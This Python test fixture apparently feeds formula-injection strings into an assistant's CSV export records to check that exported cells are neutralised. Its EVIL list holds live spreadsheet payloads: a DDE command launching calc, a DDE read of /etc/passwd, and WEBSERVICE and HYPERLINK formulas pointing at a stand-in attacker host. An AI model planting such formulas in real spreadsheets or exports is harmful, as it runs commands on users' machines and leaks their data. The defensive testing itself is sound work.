"""Rows to export in which every text is one that somebody wished to be run as a formula."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date

from concerns import AT, a_concern

from assistant.engagement.concerns import Concern, Contact
from assistant.engagement.days import Period
from assistant.engagement.export_rows import SessionRow, TurnRow
from assistant.model import Circumstances

PERIOD = Period(date(2026, 11, 1), date(2026, 11, 30))
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""What the first character of a formula can be."""

EVIL = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "x;=1+1;y",
    "x\t=1+1\ty",
    'x",=1+1,"y',
    "x\n=1+1",
    "=cmd|'/c calc'!A0",
    '=DDE("soffice";"/etc/passwd";"A1")',
    '=HYPERLINK("http://evil.example","Pay rise")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "http://evil.example",
)
"""Formulas as they are written by hand, behind blanks, and behind what parts the cells of a CSV file."""


class Rows:
    """A record with sessions, turns and concerns of which each text is one of these."""

    def __init__(self, *texts: str) -> None:
        self.texts = texts

    def turn_rows(self, *_: str) -> Iterator[TurnRow]:
        for text in self.texts:
            many, circumstances = (text, text), _circumstances(text)
            yield TurnRow(text, text, 1, AT, text, text, text, many, many, circumstances, 4.5, text, text)

    def session_rows(self, *_: str) -> Iterator[SessionRow]:
        return (SessionRow(text, AT, _circumstances(text), 2) for text in self.texts)

    def all_concerns(self) -> Iterator[Concern]:
        for text in self.texts:
            given = {"contact": Contact(text, text, text), "reason": text, "article": text, "models": (text,)}
            yield a_concern(words=text, reference=text, at=AT, **given)


def _circumstances(text: str) -> Circumstances:
    return Circumstances(role=text, contract=text, level=text, premises=text)
